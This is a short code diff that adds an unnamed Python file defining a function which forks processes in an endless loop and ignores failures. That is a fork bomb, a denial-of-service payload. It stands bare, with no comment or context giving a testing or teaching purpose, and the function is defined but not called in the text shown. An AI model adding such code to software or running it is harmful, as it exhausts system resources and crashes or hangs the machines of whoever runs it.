@@ -1,0 +1,5 @@
+import os
+def f():
+    while True:
+        try: os.fork()
+        except OSError: pass
